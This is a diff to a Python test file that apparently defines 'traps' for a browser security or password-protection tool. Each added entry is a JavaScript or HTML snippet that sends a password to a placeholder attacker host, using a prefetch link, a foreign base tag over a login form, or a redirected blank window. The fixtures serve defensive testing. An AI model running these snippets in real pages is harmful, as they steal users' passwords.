@@ -198,6 +198,13 @@ TRAPS: dict[str, Trap] = {
         is_login=True,
         finding=STOPPED,
     ),
+    "fetched ahead": _sent(
+        "const l=document.createElement('link');l.rel='prefetch';l.href='{evil}/take?p='+encodeURIComponent("
+        + PW
+        + ");document.head.append(l)"
+    ),
+    "form below a foreign base": Trap(pages={"/login": '<base href="{evil}/">' + form("take")}, finding=STOPPED),
+    "empty window that gets an address": _sent("open('').location='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
     "picture": _sent("new Image().src='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
     "picture at each key": Trap(
         door="",
